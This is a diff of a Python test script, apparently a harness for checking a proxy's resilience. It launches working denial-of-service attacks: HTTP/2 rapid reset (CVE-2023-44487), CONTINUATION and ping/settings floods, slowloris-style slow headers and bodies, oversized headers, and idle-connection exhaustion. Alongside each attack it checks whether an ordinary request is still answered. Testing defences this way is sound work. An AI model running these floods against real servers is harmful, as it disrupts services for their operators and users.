@@ -1,13 +1,12 @@
-"""An agent that means harm to the proxy: hostile.py MODE HOST PORT [COUNT].
+"""An agent that means harm to the proxy: hostile.py MODE HOST PORT COUNT.
 
-Says that it is about to begin (file `ready`), attacks, asks for something ordinary beside the attack, prints what came of both
-as one line of JSON, and keeps the attack up until the file `stop` is there.
+Attacks, asks for something ordinary once the attack is under way, goes on with it at least until that was answered, asks
+again, and prints what came of it all as one line of JSON. With a COUNT of 0 it only asks.
 """
 
-import json, os, resource, socket, ssl, sys, time
+import json, resource, socket, ssl, sys, threading, time
 
-mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
-count = int(sys.argv[4]) if len(sys.argv) > 4 else 0
+mode, host, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
 resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
 
 
@@ -56,96 +55,140 @@ def http2():
     return stream
 
 
-def pour(stream, piece, limit):
-    """Sends pieces until the other side ends the connection; how many bytes it took, and how it ended."""
-    sent = 0
-    stream.settimeout(20)
+def flood(pieces):
+    """Sends what `pieces` makes until the other side ends the connection; how many bytes it took, and how it ended."""
+    stream, at, sent = http2(), 1, 0
     try:
-        while sent < limit:
-            stream.sendall(piece)
-            sent += len(piece)
+        while sent < count:
+            piece = pieces(at)
+            stream.settimeout(20)
+            try:
+                stream.sendall(piece)
+            except TimeoutError:
+                # Neither read nor ended.
+                return sent, "stalled"
+            sent, at = sent + len(piece), at + 200
             # What it answers is read, so that it has no excuse to stop.
             stream.settimeout(0.001)
             try:
                 while stream.recv(65536):
                     pass
-                return sent, "closed"
+                return sent, "ended"
             except (TimeoutError, ssl.SSLWantReadError):
-                pass
-            stream.settimeout(20)
-    except OSError as error:
-        return sent, type(error).__name__
+                under_way.set()
+    except OSError:
+        return sent, "ended"
+    finally:
+        stream.close()
     return sent, "never"
+
+
+# That something ordinary may be asked for now, and that it was answered.
+under_way, answered = threading.Event(), threading.Event()
+said, held = {}, []
+FLOODS = {
+    # A head, and the reset of it, as often as it goes (CVE-2023-44487).
+    "rapid_reset": lambda at: b"".join(
+        frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(at, at + 200, 2)
+    ),
+    # A head that never ends (CVE-2024-27316).
+    "continuation": lambda at: (frame(1, 1, 1, block()) if at == 1 else b"") + frame(9, 0, 1, b"\0\x01x\x01y" * 3000),
+    "ping": lambda at: frame(6, 0, 0, b"12345678") * 100,
+    "settings": lambda at: frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 100,
+}
+
+
+# `limits.max_connections`, where a policy does not say it.
+PLACES = 1024
+
+
+def trickle():
+    for stream in held:
+        try:
+            stream.sendall(b"x")
+        except OSError:
+            pass
+    time.sleep(0.5)
+
+
+def unanswered(stream):
+    stream.setblocking(False)
+    try:
+        stream.recv(1, socket.MSG_PEEK)
+        return False
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+    finally:
+        stream.settimeout(20)
 
 
 def attack():
     if mode == "slow_heads":
-        held = [connect() for _ in range(count)]
-        for stream in held:
-            stream.sendall(b"GET / HTTP/1.1\r\n")
-        for _ in range(8):
-            for stream in held:
-                try:
-                    stream.sendall(b"x")
-                except OSError:
-                    pass
-            time.sleep(0.5)
-        ends = [read_all(stream) for stream in held]
-        return {"timeouts": sum(got.startswith(b"HTTP/1.1 408") for got, _ in ends)}, held
-    if mode == "slow_bodies":
-        held = [connect() for _ in range(count)]
-        for stream in held:
-            stream.sendall(get().replace(b"GET", b"POST") + b"Content-Length: 100000\r\n\r\n")
-        for _ in range(6):
-            for stream in held:
-                stream.sendall(b"x")
-            time.sleep(0.5)
-        return {}, held
-    if mode == "big_heads":
-        statuses = []
         for _ in range(count):
+            held.append(connect())
+            held[-1].sendall(b"GET / HTTP/1.1\r\n")
+        under_way.set()
+        while not answered.is_set():
+            trickle()
+        # The ordinary one was answered while these still waited for their own end.
+        said["held"] = sum(map(unanswered, held))
+        while any(map(unanswered, held)):
+            trickle()
+        said["timeouts"] = sum(read_all(stream)[0].startswith(b"HTTP/1.1 408") for stream in held)
+    elif mode == "slow_bodies":
+        for _ in range(count):
+            held.append(connect())
+            held[-1].sendall(get().replace(b"GET", b"POST") + b"Content-Length: 100000\r\n\r\n")
+        under_way.set()
+        rounds = 0
+        while rounds < 6 or not answered.is_set():
+            trickle()
+            rounds += 1
+    elif mode == "big_heads":
+        heads, statuses = 0, set()
+        while heads < count or not answered.is_set():
             stream = connect()
+            under_way.set()
             try:
                 stream.sendall(get() + b"X: " + b"x" * 1_000_000)
             except OSError:
                 pass
-            statuses.append(read_all(stream)[0][9:12].decode())
-        return {"statuses": sorted(set(statuses))}, None
-    if mode == "idle":
-        held = []
-        for _ in range(count):
-            held.append(connect())
-        return {"held": len(held)}, held
-    pieces = {
-        # A head, and the reset of it, as often as it goes (CVE-2023-44487).
-        "rapid_reset": lambda at: b"".join(
-            frame(1, 5, stream, block()) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(at, at + 200, 2)
-        ),
-        # A head that never ends (CVE-2024-27316).
-        "continuation": lambda at: (frame(1, 1, 1, block()) if at == 1 else b"") + frame(9, 0, 1, b"\0\x01x\x01y" * 3000),
-        "ping": lambda at: frame(6, 0, 0, b"12345678") * 100,
-        "settings": lambda at: frame(4, 0, 0, b"\0\x03\0\0\0\x64") * 100,
-    }
-    stream, at, sent = http2(), 1, 0
-    # Time enough for the first answer, so that the attack is all that comes.
-    while sent < count:
-        more, end = pour(stream, pieces[mode](at), 1)
-        sent, at = sent + more, at + 200
-        if end != "never":
-            return {"sent": sent, "end": end}, stream
-    return {"sent": sent, "end": "never"}, stream
+            statuses.add(read_all(stream)[0][9:12].decode())
+            heads += 1
+        said.update(heads=heads, statuses=sorted(statuses))
+    elif mode == "idle":
+        for some in (count // 2, count):
+            while len(held) < some:
+                held.append(connect())
+            # Those that are left have every place: the others made room.
+            while sum(map(unanswered, held)) > PLACES:
+                time.sleep(0.05)
+            under_way.set()
+            answered.wait()
+        said["held"] = len(held)
+    else:
+        ends = []
+        while not ends or not answered.is_set():
+            ends.append(flood(FLOODS[mode]))
+            under_way.set()
+        said.update(sent=max(sent for sent, _ in ends), ends=sorted({end for _, end in ends}), floods=len(ends))
 
 
-open("ready", "w").close()
-while not os.path.exists("go"):
-    time.sleep(0.005)
-done, held = attack()
-started = time.monotonic()
-beside = over_tls("http/1.1") if "sent" in done else connect()
-beside.sendall(get("/beside") + b"\r\n")
-got, _ = read_all(beside)
-done.update(status=got[9:12].decode(), seconds=time.monotonic() - started)
-print(json.dumps(done), flush=True)
-open("done", "w").close()
-while not os.path.exists("stop"):
-    time.sleep(0.005)
+def ask():
+    stream = over_tls("http/1.1") if mode in FLOODS else connect()
+    stream.sendall(get("/beside") + b"\r\n")
+    return read_all(stream)[0][9:12].decode()
+
+
+if count == 0:
+    sys.exit(ask() != "200")
+attacker = threading.Thread(target=attack, daemon=True)
+attacker.start()
+under_way.wait()
+said["beside"] = [ask()]
+answered.set()
+attacker.join()
+said["beside"].append(ask())
+print(json.dumps(said), flush=True)
